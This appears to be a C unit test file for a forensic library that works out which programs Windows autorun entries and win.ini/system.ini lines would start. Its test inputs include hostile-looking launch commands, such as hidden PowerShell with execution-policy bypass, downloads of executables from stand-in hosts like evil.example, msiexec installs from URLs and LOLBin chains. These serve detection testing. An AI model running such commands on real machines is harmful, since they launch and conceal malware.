/* SPDX-License-Identifier: Apache-2.0 */

/* Texts that start programs, where autorun.c leaves off: which of several files
 * is meant, quotes, arguments, and the parts of lists as they stand in the text.
 * What is expected is what CreateProcess is documented to do, and autorun.h; of
 * INI files what GetPrivateProfileString is. */

#include <stdlib.h>
#include <string.h>

#include <fett/autorun_files.h>
#include <fett/text.h>

#include "tap.h"

/* Whether a path is among the files of this test, which are separated by |. */
static bool find(void *context, const char *path)
{
    for (const char *at = context; *at;) {
        size_t size = strcspn(at, "|");
        if (text_compare_nocase(at, size, path, strlen(path)) == 0)
            return true;
        at += size;
        at += *at == '|';
    }
    return false;
}

/* All programs of a text as "path state <arguments>" with " + " between. The
 * text has no byte behind it but its NUL, which sanitizers watch. */
static void starts(const char *files, enum autorun_list list, const char *text,
                   const char *expected)
{
    static const char *const states[] = { "found", "absent", "unknown" };
    const struct autorun_machine machine = { .windows = "/WINNT",
                                             .profile = "/Documents and Settings/bob",
                                             .drive = 'C',
                                             .search = "C:\\WINNT\\system32;C:\\WINNT",
                                             .find = find,
                                             .context = (void *)files };
    char *exact = strdup(text);
    struct autorun_program program = { .next = exact };
    struct buffer got = BUFFER_INIT;
    const char *end = exact + strlen(exact);
    bool inside = true;

    while (program.next && autorun_resolve(&machine, list, program.next, &program)) {
        if (got.length > 0)
            buffer_add_text(&got, " + ");
        buffer_add_format(&got, "%s %s%s <%.*s>", buffer_text(&program.path),
                          states[program.state], program.conditional ? "?" : "", (int)program.arguments_size, program.arguments);
        inside &= program.text >= exact && program.text + program.text_size <= end &&
                  (program.arguments_size == 0 ||
                   (program.arguments >= program.text && program.arguments <= end)) &&
                  (!program.next || (program.next > program.text && program.next <= end));
        buffer_release(&program.path);
    }
    same_text(buffer_text(&got), expected, text);
    ok(inside, "its parts lie in the text");
    buffer_release(&got);
    free(exact);
}

#define EVIL "/evil/a.exe"

static void test_quotes(void)
{
    starts(EVIL, AUTORUN_ONE, "\"C:\\evil\\a.exe\" -x \"y z\"",
           "/evil/a.exe found <-x \"y z\">");
    starts(EVIL, AUTORUN_ONE, "\"C:\\evil\\a.exe\"-x", "/evil/a.exe found <-x>");
    starts(EVIL, AUTORUN_ONE, "\"C:\\evil\\a.exe\"\t\t-x ", "/evil/a.exe found <-x >");
    starts(EVIL, AUTORUN_ONE, "\"C:\\evil\\a.exe\" ", "/evil/a.exe found <>");
    starts(EVIL, AUTORUN_ONE, " \t \"C:\\evil\\a.exe\"", "/evil/a.exe found <>");
    starts(EVIL, AUTORUN_ONE, "\"C:\\evil\\a\"", "/evil/a.exe found <>");
    starts(EVIL, AUTORUN_ONE, "\"C:\\evil\\a.exe", "/evil/a.exe found <>");
    /* What is quoted is one name: it is not looked for in parts. */
    starts("/evil/a.exe|/evil/a", AUTORUN_ONE, "\"C:\\evil\\a b\\c.exe\" -x",
           "/evil/a b/c.exe absent <-x>");
    starts("/evil/a b/c.exe", AUTORUN_ONE, "\"%SystemDrive%\\evil\\a b\\c.exe\" -x",
           "/evil/a b/c.exe found <-x>");
}

/* "c:\program files\sub dir\program name": c:\program.exe, c:\program
 * files\sub.exe, c:\program files\sub dir\program.exe, then the whole. */
static void test_spaces(void)
{
    static const char text[] = "c:\\program files\\sub dir\\program name";

    starts("/program.exe|/program files/sub.exe|/program files/sub dir/program.exe|"
           "/program files/sub dir/program name.exe", AUTORUN_ONE, text,
           "/program.exe found <files\\sub dir\\program name>");
    starts("/program files/sub.exe|/program files/sub dir/program.exe|"
           "/program files/sub dir/program name.exe", AUTORUN_ONE, text,
           "/program files/sub.exe found <dir\\program name>");
    starts("/program files/sub dir/program.exe|/program files/sub dir/program name.exe",
           AUTORUN_ONE, text, "/program files/sub dir/program.exe found <name>");
    starts("/program files/sub dir/program name.exe", AUTORUN_ONE, text,
           "/program files/sub dir/program name.exe found <>");

    starts("/a b/c d.exe", AUTORUN_ONE, "C:\\a b\\c d.exe -q \"r s\"",
           "/a b/c d.exe found <-q \"r s\">");
    starts("/a b/c d.exe", AUTORUN_ONE, "C:\\a b\\c d.exe\t-q", "/a b/c d.exe found <-q>");
    starts("/a b/c d.exe|/a b/c.exe", AUTORUN_ONE, "C:\\a b\\c d.exe",
           "/a b/c.exe found <d.exe>");
    /* None is there: up to the first ending of a program. */
    starts("", AUTORUN_ONE, "C:\\a b\\c d.exe -q", "/a b/c d.exe absent <-q>");
    starts("", AUTORUN_ONE, "C:\\a b\\c d.scr /s x.exe", "/a b/c d.scr absent </s x.exe>");
    starts("", AUTORUN_ONE, "C:\\a.exe.d\\b.exe -q", "/a.exe.d/b.exe absent <-q>");
    starts("", AUTORUN_ONE, "C:\\a -q", "/a absent <-q>");
}

static void test_arguments(void)
{
    starts("/WINNT/system32/rundll32.exe|/evil/two.dll", AUTORUN_ONE,
           "rundll32 C:\\evil\\two.dll,Start 1",
           "/evil/two.dll found <Start 1>");
    starts("/WINNT/system32/rundll32.exe", AUTORUN_ONE,
           "%windir%\\system32\\rundll32.exe \"C:\\a b\\two.dll\",Start",
           "/a b/two.dll absent <Start>");
    starts("/WINNT/system32/cmd.exe|/evil/a.exe", AUTORUN_ONE, "cmd /c start \"\" C:\\evil\\a.exe",
           "/evil/a.exe found <>");
    starts("/evil/a link.lnk", AUTORUN_ONE, "C:\\evil\\a link.lnk",
           "/evil/a link.lnk found <>");
    starts("/evil/a link.lnk", AUTORUN_ONE, "\"C:\\evil\\a link.lnk\" x",
           "/evil/a link.lnk found <x>");
    starts("/evil/v.vbs", AUTORUN_ONE, "C:\\evil\\v.vbs //B", "/evil/v.vbs found <//B>");
    starts("/evil/noext", AUTORUN_ONE, "C:\\evil\\noext -x", "/evil/noext found <-x>");
    starts(EVIL, AUTORUN_ONE, "C:\\evil\\a.exe   ", "/evil/a.exe found <>");
    starts(EVIL, AUTORUN_ONE, "C:\\evil\\a.exe %1 %windir%", "/evil/a.exe found <%1 %windir%>");
}

/* What cmd and start say of their own command lines ("cmd /?", "start /?"). */
static void test_shell(void)
{
    static const char files[] = "/WINNT/system32/cmd.exe|/evil/a.exe|/evil/b c.exe|/evil/d.bat|"
                                "/evil/s.ps1|/WINNT/system32/ping.exe|/WINNT/system32/ftp.exe|"
                                "/WINNT/system32/powershell.exe|/evil/sub/e.exe";

    starts(files, AUTORUN_ONE, "cmd.exe /c \"C:\\evil\\d.bat arg\"", "/evil/d.bat found <arg>");
    starts(files, AUTORUN_ONE, "cmd /c \"C:\\evil\\b c.exe\"", "/evil/b c.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c \"C:\\evil\\b c.exe\" x", "/evil/b c.exe found <x>");
    starts(files, AUTORUN_ONE, "cmd /c \"\"C:\\evil\\b c.exe\" -a \"q r\"\"",
           "/evil/b c.exe found <-a \"q r\">");
    starts(files, AUTORUN_ONE, "cmd /s /c \"\"C:\\evil\\b c.exe\"\"", "/evil/b c.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c \"C:\\evil\\b c.exe\" \"q r\"",
           "/evil/b c.exe found <\"q r\">");
    starts(files, AUTORUN_ONE, "cmd /c \"powershell -w hidden -f C:\\evil\\s.ps1\"",
           "/evil/s.ps1 found <>");
    starts(files, AUTORUN_ONE, "cmd /c \"start /b C:\\evil\\a.exe -x\"", "/evil/a.exe found <-x>");
    starts(files, AUTORUN_ONE, "cmd /c \"start \"a title\" \"C:\\evil\\b c.exe\" y\"",
           "/evil/b c.exe found <y>");
    starts(files, AUTORUN_ONE, "cmd /c \"cmd /c C:\\evil\\a.exe\"", "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /q/v:on/cC:\\evil\\a.exe", "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "%ComSpec% /E:ON /K @C:\\evil\\a.exe", "/evil/a.exe found <>");

    /* & | < > end a command where they stand outside of quotes. */
    starts(files, AUTORUN_ONE, "cmd.exe /c C:\\evil\\d.bat&exit", "/evil/d.bat found <>");
    starts(files, AUTORUN_ONE, "cmd /c C:\\evil\\a.exe -x > nul 2>&1", "/evil/a.exe found <-x>");
    starts(files, AUTORUN_ONE, "cmd /c C:\\evil\\a.exe -x 2>nul|more", "/evil/a.exe found <-x>");
    starts(files, AUTORUN_ONE, "cmd /c C:\\evil\\a.exe \"x&y\" ^& z",
           "/evil/a.exe found <\"x&y\" ^& z>");
    starts(files, AUTORUN_ONE, "cmd /c (C:\\evil\\a.exe)", "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c \"C:\\evil\\a.exe\"&&C:\\evil\\d.bat",
           "/evil/a.exe found <>");
    /* What starts nothing, or only waits, comes before what does. */
    starts(files, AUTORUN_ONE, "cmd /c set a=b&C:\\evil\\a.exe", "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c echo open h>o & echo quit>>o & ftp -s:o",
           "/WINNT/system32/ftp.exe found <-s:o>");
    starts(files, AUTORUN_ONE, "cmd /c ping -n 9 h >nul & C:\\evil\\a.exe", "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c ping -n 9 h", "/WINNT/system32/ping.exe found <-n 9 h>");
    starts(files, AUTORUN_ONE, "cmd /c del C:\\evil\\a.exe",
           "/WINNT/system32/cmd.exe found </c del C:\\evil\\a.exe>");
    starts(files, AUTORUN_ONE, "cmd /c if exist x C:\\evil\\a.exe", "/evil/a.exe found? <>");
    starts(files, AUTORUN_ONE, "cmd /c if not exist \"C:\\b c\" (start \"\" C:\\evil\\a.exe -x)",
           "/evil/a.exe found? <-x>");
    starts(files, AUTORUN_ONE, "cmd /c \"if /i not \"a\"==\"A\" C:\\evil\\a.exe\"",
           "/evil/a.exe found? <>");
    starts(files, AUTORUN_ONE, "cmd /c if %x% EQU 1 @call C:\\evil\\d.bat",
           "/evil/d.bat found? <>");
    starts(files, AUTORUN_ONE, "cmd /c if 1 == 1 C:\\evil\\a.exe", "/evil/a.exe found? <>");
    starts(files, AUTORUN_ONE, "cmd /c if errorlevel 1 del x & C:\\evil\\a.exe",
           "/evil/a.exe found? <>");
    starts(files, AUTORUN_ONE, "cmd /c if exist x (del x) & C:\\evil\\a.exe",
           "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c if exist x (del x) else start C:\\evil\\a.exe",
           "/evil/a.exe found? <>");
    starts(files, AUTORUN_ONE, "cmd /c C:\\evil\\a.exe & if exist x C:\\evil\\d.bat",
           "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c cmd /c if exist x C:\\evil\\a.exe", "/evil/a.exe found? <>");
    starts(files, AUTORUN_ONE, "cmd /c for %i in (1 2) do start C:\\evil\\a.exe %i",
           "/evil/a.exe found <%i>");
    starts(files, AUTORUN_ONE, "cmd /c for /f \"tokens=*\" %a in ('dir') do @%a -x",
           "/WINNT/system32/cmd.exe found </c for /f \"tokens=*\" %a in ('dir') do @%a -x>");

    /* The folder that a program is started in. */
    starts(files, AUTORUN_ONE, "cmd /c start /d \"C:\\evil\\sub\" e.exe",
           "/evil/sub/e.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c start \"\" /min /dC:\\evil\\sub e.exe 1",
           "/evil/sub/e.exe found <1>");
    starts(files, AUTORUN_ONE, "cmd /c start /wait \"\" \"C:\\evil\\a.exe\"",
           "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c start /affinity 3 C:\\evil\\a.exe", "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c cd /d \"C:\\evil\\sub\" && e.exe",
           "/evil/sub/e.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c pushd C:\\evil & sub\\e", "/evil/sub/e.exe found <>");
    starts(files, AUTORUN_ONE, "cmd /c cd /d E:\\ & e.exe",
           "/WINNT/system32/cmd.exe found </c cd /d E:\\ & e.exe>");
    starts("", AUTORUN_ONE, "cmd /c", "cmd absent </c>");
    starts("", AUTORUN_ONE, "cmd /c \"", "cmd absent </c \">");
    starts("", AUTORUN_ONE, "cmd /c \"\"", "cmd absent </c \"\">");
}

/* Programs of Windows that start what their arguments name, as they are documented. */
static void test_hosts(void)
{
    static const char files[] = "/evil/a.exe|/evil/b c.exe|/evil/x.msi|/evil/x.dll|/evil/x.inf|"
                                "/evil/x.cpl|/evil/s.ps1|/evil/x.scr|/WINNT/explorer.exe";

    starts(files, AUTORUN_ONE, "msiexec /y C:\\evil\\x.dll", "/evil/x.dll found <>");
    starts(files, AUTORUN_ONE, "msiexec /z \"C:\\evil\\x.dll\"", "/evil/x.dll found <>");
    starts(files, AUTORUN_ONE, "msiexec /i\"C:\\evil\\x.msi\" /qn", "/evil/x.msi found </qn>");
    starts(files, AUTORUN_ONE, "msiexec /iC:\\evil\\x.msi", "/evil/x.msi found <>");
    starts(files, AUTORUN_ONE, "msiexec /q/i C:\\evil\\x.msi", "/evil/x.msi found <>");
    starts(files, AUTORUN_ONE, "msiexec -qn -l*v C:\\l.txt -package C:\\evil\\x.msi",
           "/evil/x.msi found <>");
    starts(files, AUTORUN_ONE, "msiexec /x {00000000-0000-0000-0000-000000000000}",
           "msiexec absent </x {00000000-0000-0000-0000-000000000000}>");
    starts(files, AUTORUN_ONE, "msiexec /i http://h/x.msi", "msiexec absent </i http://h/x.msi>");

    starts(files, AUTORUN_ONE, "rundll32 advpack.dll,LaunchINFSection C:\\evil\\x.inf,,1,",
           "/evil/x.inf found <1,>");
    starts(files, AUTORUN_ONE, "rundll32 setupapi,InstallHinfSection Default 128 C:\\evil\\x.inf",
           "/evil/x.inf found <>");
    starts(files, AUTORUN_ONE, "rundll32 shell32.dll,Control_RunDLL C:\\evil\\x.cpl,@0",
           "/evil/x.cpl found <@0>");
    starts(files, AUTORUN_ONE, "rundll32 \"C:\\evil\\x.dll,Start\"", "/evil/x.dll found <Start>");
    starts(files, AUTORUN_ONE, "rundll32 desk.cpl,InstallScreenSaver C:\\evil\\x.scr",
           "/evil/x.scr found <>");
    starts(files, AUTORUN_ONE, "rundll32 C:\\evil\\x.dll,InstallScreenSaver %l",
           "/evil/x.dll found <InstallScreenSaver %l>");
    starts(files, AUTORUN_ONE, "wscript \"%1\" %*", "wscript absent <\"%1\" %*>");

    starts(files, AUTORUN_ONE, "conhost.exe --headless cmd /c C:\\evil\\a.exe",
           "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "conhost 0x4", "conhost absent <0x4>");
    starts(files, AUTORUN_ONE, "forfiles /p C:\\ /c \"cmd /c C:\\evil\\a.exe 1\"",
           "/evil/a.exe found <1>");
    starts(files, AUTORUN_ONE, "pcalua.exe -a C:\\evil\\a.exe", "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "pwsh -NoProfile -File C:\\evil\\s.ps1 1", "/evil/s.ps1 found <1>");
    starts(files, AUTORUN_ONE, "powershell -ep bypass C:\\evil\\s.ps1", "/evil/s.ps1 found <>");
    starts(files, AUTORUN_ONE, "powershell \"& C:\\evil\\s.ps1\"", "/evil/s.ps1 found <>");
    starts(files, AUTORUN_ONE, "powershell -c C:\\evil\\s.ps1 -x", "/evil/s.ps1 found <-x>");
    starts(files, AUTORUN_ONE, "powershell -Command \"& 'C:\\evil\\b c.exe' -a\"",
           "/evil/b c.exe found <-a>");
    starts(files, AUTORUN_ONE, "powershell -c \"& \\\"C:\\evil\\b c.exe\\\" -a\"",
           "/evil/b c.exe found <-a>");
    starts(files, AUTORUN_ONE, "powershell -c start http://evil.example/x.exe",
           "powershell absent <-c start http://evil.example/x.exe>");
    starts(files, AUTORUN_ONE, "powershell -w hidden -c \". C:\\evil\\s.ps1\"",
           "/evil/s.ps1 found <>");
    starts(files, AUTORUN_ONE, "powershell \"&{Start-Process -FilePath 'C:\\evil\\a.exe'}\"",
           "/evil/a.exe found <>");
    starts(files, AUTORUN_ONE, "powershell -c \"iex (gc C:\\evil\\s.ps1)\"",
           "powershell absent <-c \"iex (gc C:\\evil\\s.ps1)\">");
    starts(files, AUTORUN_ONE, "powershell -c Get-Process", "powershell absent <-c Get-Process>");
    starts(files, AUTORUN_ONE, "powershell -enc C:\\evil\\s.ps1",
           "powershell absent <-enc C:\\evil\\s.ps1>");
    starts(files, AUTORUN_ONE, "pwsh -wd C:\\evil C:\\evil\\s.ps1", "/evil/s.ps1 found <>");

    starts("/evil/h.chm", AUTORUN_ONE, "hh.exe C:\\evil\\h.chm", "/evil/h.chm found <>");
    starts("/evil/h.chm", AUTORUN_ONE, "hh -mapid 7 ms-its:C:\\evil\\h.chm::/a.htm",
           "/evil/h.chm found <>");
    starts("/evil/h.chm", AUTORUN_ONE, "hh http://evil.example/x",
           "hh absent <http://evil.example/x>");
    starts("/evil/j.jar", AUTORUN_ONE, "javaw -Xmx9m -jar C:\\evil\\j.jar -q", "/evil/j.jar found <-q>");
    starts("/Program Files/Java/bin/javaw.exe|/evil/j.jar", AUTORUN_ONE,
           "\"C:\\Program Files\\Java\\bin\\javaw.exe\" -jar C:\\evil\\j.jar",
           "/evil/j.jar found <>");
    starts("/evil/javaw.exe|/evil/j.jar", AUTORUN_ONE, "C:\\evil\\javaw.exe -jar C:\\evil\\j.jar",
           "/evil/javaw.exe found <-jar C:\\evil\\j.jar>");

    starts(files, AUTORUN_ONE, "explorer.exe \"C:\\evil\\b c.exe\"", "/evil/b c.exe found <>");
    starts(files, AUTORUN_ONE, "explorer C:\\evil", "/WINNT/explorer.exe found <C:\\evil>");
    starts(files, AUTORUN_ONE, "explorer /e,C:\\evil\\a.exe",
           "/WINNT/explorer.exe found </e,C:\\evil\\a.exe>");
    starts(files, AUTORUN_ONE, "explorer shell:startup",
           "/WINNT/explorer.exe found <shell:startup>");
    starts(files, AUTORUN_ONE, "explorer C:\\gone\\a.exe", "/gone/a.exe absent <>");
}

/* A quote that ends a name without having begun it; endings of PATHEXT. */
static void test_names(void)
{
    starts(EVIL, AUTORUN_ONE, "C:\\evil\\a.exe\" -a", "/evil/a.exe found <-a>");
    starts("", AUTORUN_ONE, "C:\\evil\\a.exe\" -a", "/evil/a.exe absent <-a>");
    starts("/evil/a.vbs", AUTORUN_ONE, "C:\\evil\\a -x", "/evil/a.vbs found <-x>");
    starts("/evil/a b.js", AUTORUN_ONE, "\"C:\\evil\\a b\"", "/evil/a b.js found <>");
    starts("/evil/a.js|/evil/a.cmd|/evil/a.exe", AUTORUN_ONE, "C:\\evil\\a",
           "/evil/a.exe found <>");
    starts("", AUTORUN_ONE, "C:\\evil\\a", "/evil/a absent <>");
    /* CreateProcess looks for programs only in the parts of a name. */
    starts("/evil/a.vbs|/evil/a b.exe", AUTORUN_ONE, "C:\\evil\\a b", "/evil/a b.exe found <>");
}

static void test_places(void)
{
    /* A bare name: the system folders, then that of Windows. */
    starts("/WINNT/system32/x.exe|/WINNT/system/x.exe|/WINNT/x.exe", AUTORUN_ONE, "x",
           "/WINNT/system32/x.exe found <>");
    starts("/WINNT/system/x.exe|/WINNT/x.exe", AUTORUN_ONE, "X.EXE -1",
           "/WINNT/system/X.EXE found <-1>");
    starts("/WINNT/x.exe|/x.exe", AUTORUN_ONE, "x.exe", "/WINNT/x.exe found <>");
    starts("/x.exe", AUTORUN_ONE, "x.exe", "x.exe absent <>");

    starts(EVIL, AUTORUN_ONE, "\\evil\\a.exe", "/evil/a.exe found <>");
    starts(EVIL, AUTORUN_ONE, "/evil/a.exe", "/evil/a.exe found <>");
    starts(EVIL, AUTORUN_ONE, "C:/evil\\a.exe", "/evil/a.exe found <>");
    starts(EVIL, AUTORUN_ONE, "\\\\?\\C:\\evil\\a.exe", "/evil/a.exe found <>");
    starts(EVIL, AUTORUN_ONE, "\\??\\c:\\evil\\a.exe -x", "/evil/a.exe found <-x>");
    starts(EVIL, AUTORUN_ONE, "\\??\\D:\\evil\\a.exe", "\\??\\D:\\evil\\a.exe unknown <>");
    starts(EVIL, AUTORUN_ONE, "C:\\x\\y\\..\\..\\evil\\.\\a.exe", "/evil/a.exe found <>");
    starts(EVIL, AUTORUN_ONE, "C:\\..\\..\\..\\evil\\a.exe", "/evil/a.exe found <>");
    starts("/WINNT/system32/drivers/a.sys", AUTORUN_ONE, "\\systemroot\\SYSTEM32\\drivers\\a.sys",
           "/WINNT/SYSTEM32/drivers/a.sys found <>");
    starts("/WINNT/system32/drivers/a.sys", AUTORUN_ONE, "SystemRoot\\system32\\drivers\\a.sys",
           "/WINNT/system32/drivers/a.sys found <>");
    starts(EVIL, AUTORUN_ONE, "\\\\server\\share\\evil\\a.exe -x",
           "\\\\server\\share\\evil\\a.exe unknown <-x>");

    starts("/Documents and Settings/bob/Local Settings/Temp/t.exe", AUTORUN_ONE,
           "%Temp%\\t.exe /s",
           "/Documents and Settings/bob/Local Settings/Temp/t.exe found </s>");
    starts("/Documents and Settings/bob/x.exe", AUTORUN_ONE, "%USERPROFILE%\\x.exe",
           "/Documents and Settings/bob/x.exe found <>");
    starts(EVIL, AUTORUN_ONE, "%SystemDrive%\\evil\\a.exe", "/evil/a.exe found <>");
    starts("/command.com|/WINNT/command.com", AUTORUN_ONE, "%COMSPEC%",
           "/WINNT/command.com found <>");
    starts("/WINNT/%x%/a.exe", AUTORUN_ONE, "%windir%\\%x%\\a.exe",
           "%windir%\\%x%\\a.exe unknown <>");
    starts("/WINNT/a.exe", AUTORUN_ONE, "%windir\\a.exe", "%windir\\a.exe unknown <>");
    starts("/WINNT/a.exe", AUTORUN_ONE, "%%windir%\\a.exe", "%%windir%\\a.exe unknown <>");
}

static void test_nothing(void)
{
    static const char *const none[] = { "", " ", "\t \t" };

    for (size_t i = 0; i < sizeof none / sizeof *none; i++)
        for (enum autorun_list list = AUTORUN_ONE; list <= AUTORUN_NATIVE; list++)
            starts(EVIL, list, none[i], "");
    starts(EVIL, AUTORUN_COMMANDS, " , ,, ", "");
    starts(EVIL, AUTORUN_NAMES, ",\t,", "");
}

static void test_lists(void)
{
    static const char files[] = "/WINNT/explorer.exe|/WINNT/system32/userinit.exe|"
                                "/WINNT/system32/calc.exe|/evil/a.exe|/evil/b, c.exe";

    starts(files, AUTORUN_COMMANDS, "C:\\WINNT\\system32\\userinit.exe,\"C:\\evil\\b, c.exe\" -x,",
           "/WINNT/system32/userinit.exe found <> + /evil/b, c.exe found <-x>");
    starts(files, AUTORUN_COMMANDS, "explorer.exe \"C:\\evil\\a.exe\" -x",
           "/WINNT/explorer.exe found <\"C:\\evil\\a.exe\" -x> + /evil/a.exe found <-x>");
    starts(files, AUTORUN_ONE, "explorer.exe \"C:\\evil\\a.exe\" -x",
           "/evil/a.exe found <-x>"); /* no list: what it opens */
    starts(files, AUTORUN_COMMANDS, "explorer.exe,calc",
           "/WINNT/explorer.exe found <> + /WINNT/system32/calc.exe found <>");
    starts(files, AUTORUN_COMMANDS, "calc C:\\evil\\a.exe, C:\\evil\\a.exe",
           "/WINNT/system32/calc.exe found <C:\\evil\\a.exe> + /evil/a.exe found <>");
    starts(files, AUTORUN_NAMES, "calc,C:\\evil\\a.exe\tuserinit ",
           "/WINNT/system32/calc.exe found <> + /evil/a.exe found <> + "
           "/WINNT/system32/userinit.exe found <>");
    starts(files, AUTORUN_NAMES, "gone.dll,calc", "gone.dll absent <> + "
                                                  "/WINNT/system32/calc.exe found <>");
    starts(files, AUTORUN_NAMES, "\"C:\\evil\\b, c.exe\" calc",
           "/evil/b, c.exe found <> + /WINNT/system32/calc.exe found <>");
    starts("/WINNT/system32/autochk.exe", AUTORUN_NATIVE, "AutoCheck autochk /r \\??\\C:",
           "/WINNT/system32/autochk.exe found </r \\??\\C:>");
    starts("/WINNT/system32/autochk.exe", AUTORUN_ONE, "autocheck autochk *",
           "autocheck absent <autochk *>"); /* a word for smss only */
    starts("/WINNT/system32/evil.exe", AUTORUN_NATIVE, "evil", "/WINNT/system32/evil.exe found <>");
}

/* Any text: it ends, and all parts lie in it. */
static void test_noise(void)
{
    static const char *const words[] = { "\"", " ", ",", "\t", "%", "C:", "\\", "..", ".exe", "a",
                                         "autocheck ", "explorer.exe", "%windir%", "\\??\\", "*" };
    static const char *const hosts[] = { "", "cmd /c ", "cmd /s/k\"", "cmd /c start /d",
                                         "cmd /c cd ", "rundll32 ", "msiexec ",
                                         "rundll32 a,control_rundll ", "conhost --",
                                         "forfiles /c ", "powershell -f ", "explorer " };
    static const char *const parts[] = { "/i", "/", "&", "|", ">", "^", "(", "start ", "%1",
                                         "%TEMP%" };
    enum { WORDS = sizeof words / sizeof *words, PARTS = sizeof parts / sizeof *parts };
    unsigned seed = 1, programs = 0;
    bool inside = true;

    for (int round = 0; round < 20000; round++) {
        char text[320] = "";
        strcat(text, hosts[round % 7 ? 0 : round / 7 % (sizeof hosts / sizeof *hosts)]);
        seed = seed * 1103515245 + 12345;
        for (unsigned count = (seed >> 16) % 20; count > 0; count--) {
            seed = seed * 1103515245 + 12345;
            unsigned which = (seed >> 16) % (*text ? WORDS + PARTS : WORDS);
            strcat(text, which < WORDS ? words[which] : parts[which - WORDS]);
        }
        const struct autorun_machine machine = { .windows = round & 4 ? "/WINNT" : "",
                                                 .profile = round & 8 ? "/bob" : NULL,
                                                 .drive = 'C',
                                                 .search = round & 16 ? words[round % 15] : NULL,
                                                 .find = find,
                                                 .context = (void *)EVIL };
        char *exact = strdup(text), *end = exact + strlen(exact);
        struct autorun_program program = { .next = exact };
        unsigned most = 300;
        while (most-- > 0 && program.next &&
               autorun_resolve(&machine, (enum autorun_list)(round % 4), program.next, &program)) {
            programs++;
            inside &= program.text >= exact && program.text + program.text_size <= end &&
                      (!program.next || (program.next > exact && program.next <= end)) &&
                      (program.arguments_size == 0 ||
                       (program.arguments >= exact &&
                        program.arguments + program.arguments_size <= end));
            buffer_release(&program.path);
        }
        inside &= most < 300;
        free(exact);
    }
    ok(programs > 10000 && inside, "20,000 texts of any words: %u programs", programs);
}

/* --- INI files --- */

static const struct autorun_file ini_file = { .kind = AUTORUN_INI };

static int add_ini(void *context, const struct autorun *autorun)
{
    buffer_add_format(context, "%s|%s|%.*s|%s\n", autorun->location, autorun->key,
                      (int)autorun->name_length, autorun->name, autorun->text);
    return 0;
}

static int stop(void *context, const struct autorun *autorun)
{
    (void)autorun;
    return ++*(int *)context == 2 ? 9 : 0;
}

static void ini(const char *name, const void *data, size_t size, const char *expected,
                const char *what)
{
    struct buffer got = BUFFER_INIT;
    uint8_t *exact = malloc(size + !size);

    memcpy(exact, data, size);
    ok(autorun_walk_file(&ini_file, name, exact, size, 1250, NULL, add_ini, &got, NULL, NULL) == 0, "%s: walked", what);
    same_text(buffer_text(&got), expected, what);
    buffer_release(&got);
    free(exact);
}

static void text_ini(const char *name, const char *text, const char *expected, const char *what)
{
    ini(name, text, strlen(text), expected, what);
}

static void test_ini(void)
{
    text_ini("win.ini", "[windows]\r\nload=a.exe\r\nrun=b.exe\r\n",
             "win-ini-load|windows|load|a.exe\nwin-ini-run|windows|run|b.exe\n", "CR LF");
    text_ini("win.ini", "[windows]\nload=a.exe\nrun=b.exe",
             "win-ini-load|windows|load|a.exe\nwin-ini-run|windows|run|b.exe\n",
             "LF, none at the end");
    text_ini("win.ini", "\n\n[windows]\n\n\nrun=b.exe\n\n", "win-ini-run|windows|run|b.exe\n",
             "empty lines");
    text_ini("WIN.INI", "[WINDOWS]\nRUN=B.EXE\n", "win-ini-run|WINDOWS|RUN|B.EXE\n",
             "names without case, given as they stand");
    text_ini("win.ini", "\t[windows]\n \t run \t=\t b.exe -x  \n",
             "win-ini-run|windows|run|b.exe -x\n", "blanks around all of them");
    text_ini("win.ini", "[windows]\n;run=a\n ; run=b\nrem run=c\nrun=d;e ; f\n",
             "win-ini-run|windows|run|d;e ; f\n", "comments are lines of their own");
    text_ini("win.ini", "[windows]\nrun=a=b==\n", "win-ini-run|windows|run|a=b==\n",
             "the first = counts");
    text_ini("win.ini", "[windows]\nrun=\nrun\n=x\n", "win-ini-run|windows|run|\n",
             "an empty value, no value, no name");
    text_ini("win.ini", "[windows]\nrunx=a\nxrun=b\nru=c\n[windowsx]\nrun=d\n[window]\nrun=e\n",
             "", "names that are only alike");
    text_ini("win.ini", "run=a\n[other]\nrun=b\n[windows]\nrun=c\n[other]\nrun=d\n[windows]\n"
             "run=e\n",
             "win-ini-run|windows|run|c\nwin-ini-run|windows|run|e\n",
             "each time that the section comes");
    text_ini("system.ini", "[windows]\nrun=a\n[boot]\nshell=b\nscrnsave.exe=c.scr\n[386Enh]\n"
             "device=d\ndevice=e\n",
             "system-ini-boot-shell|boot|shell|b\n"
             "system-ini-boot-scrnsave|boot|scrnsave.exe|c.scr\n"
             "system-ini-386enh-device|386Enh|device|d\n"
             "system-ini-386enh-device|386Enh|device|e\n", "the rows of the other file");
    text_ini("system.ini", "[]\nshell=a\n[\nshell=b\n[boot]shell=c\n[boot]\nshell=d\n",
             "system-ini-boot-shell|boot|shell|d\n", "sections without a name");
    text_ini("win.ini", "[windows]\nrun=\x80\xe4\xb3\x81\n",
             "win-ini-run|windows|run|\u20ac\u00e4\u0142\xc2\x81\n", "Windows-1250");

    static const uint8_t wide[] = "\xff\xfe[\0w\0i\0n\0d\0o\0w\0s\0]\0\r\0\n\0r\0u\0n\0=\0\xac\x20"
                                  "\x0a\x01.\0e\0x\0e\0";
    ini("win.ini", wide, sizeof wide - 1,
        "win-ini-run|windows|run|\u20ac\u010a.exe\n",
        "UTF-16: a character with 0x0a in it ends no line");
    ini("win.ini", wide, sizeof wide - 2,
        "win-ini-run|windows|run|\u20ac\u010a.ex\n", "cut within a character");
    ini("win.ini", "\xff\xfe", 2, "", "the mark alone");
    ini("win.ini", "\xff", 1, "", "half of it");

    int count = 0;
    static const uint8_t two[] = "[windows]\nload=a\nrun=b\nrun=c\n";
    ok(autorun_walk_file(&ini_file, "win.ini", two, sizeof two - 1, 0, NULL, stop, &count, NULL, NULL) == 9 && count == 2,
       "a visitor ends the walk");
